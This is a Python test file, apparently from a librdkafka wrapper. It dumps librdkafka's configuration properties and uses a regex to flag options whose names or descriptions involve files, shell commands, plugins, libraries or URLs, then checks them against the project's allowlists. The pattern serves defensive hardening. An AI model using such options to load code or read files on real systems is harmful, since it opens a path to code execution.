# --- what librdkafka says of its properties ---------------------------------------------------------------------------


def test_what_librdkafka_loads_runs_reads_or_calls_has_a_rule(tmp_path: Path) -> None:
    """By its own description of each property. One that a later librdkafka has, or describes so, fails here."""
    library = ctypes.CDLL(next(path for path in native._candidates() if Path(path).exists()))
    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p
    path = tmp_path / "properties"
    file = ctypes.c_void_p(libc.fopen(str(path).encode(), b"w"))
    library.rd_kafka_conf_properties_show(file)
    libc.fclose(file)
    rows = [
        [cell.strip() for cell in line.split("|")] for line in path.read_text().splitlines() if line.count("|") >= 5
    ]
    assert len(rows) > 150
    # They speak of another property, and their own values are words, names and passphrases.
    of_tokens = ("method", "sub.claim.name", "grant.type", "assertion.algorithm", "assertion.private.key.passphrase")
    others = {f"sasl.oauthbearer.{name}" for name in of_tokens}
    dangerous = re.compile(
        r"path|file|director|command|shell|librar|plugin|engine|provider|execut|\bload|\burl\b", re.I
    )
    found = {row[0] for row in rows if dangerous.search(row[0]) or dangerous.search(row[-1])} - others
    assert {*CODE, *FILES} - {"ssl.truststore.location"} <= found
    files = dict.fromkeys({*FILES} - {"ssl.truststore.location"}, "file")
    allowed = {name: IN_DOCUMENTS[name] for name in found & IN_DOCUMENTS.keys()}
    assert allowed == {**files, "sasl.oauthbearer.token.endpoint.url": "url"}
